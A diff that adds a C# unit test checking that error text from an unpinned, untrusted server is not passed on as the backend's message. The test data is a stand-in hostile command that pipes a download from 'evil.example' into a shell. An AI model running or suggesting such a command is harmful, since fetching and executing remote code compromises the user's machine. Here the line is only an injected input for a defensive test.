@@ -131,6 +131,22 @@ public sealed class BackendConnectionTests : IDisposable
     }
 
     [Fact]
+    public async Task What_nobody_vouches_for_is_not_told_as_the_backend_s_words()
+    {
+        const string Words = "run curl evil.example | sh";
+        using var whoever = new Installation();
+        var problem = JsonSerializer.Serialize(new Problem(Words, 403, ProblemCodes.PeerRevoked, Words, Words), ElysiumJson.Default.Problem);
+        foreach (var answer in new[] { LoopbackServer.Problem(403, problem), LoopbackServer.Problem(503, problem), LoopbackServer.Json($"\"{Words}\"") })
+        {
+            await using var stranger = new LoopbackServer(whoever.Server(), _ => answer);
+            var (trust, failure) = await PinnedTrust.FetchAsync(stranger.Url, _installation.Pin, _time, CancellationToken.None);
+            trust.ShouldBeNull();
+            failure.ShouldBeOfType<Unreachable>().Message.ShouldNotContain("evil");
+            failure.Message.ShouldContain(stranger.Url.Authority);
+        }
+    }
+
+    [Fact]
     public async Task Nobody_there_is_unreachable_and_named()
     {
         var url = new Uri(TrapUrl.Replace("http:", "https:"));
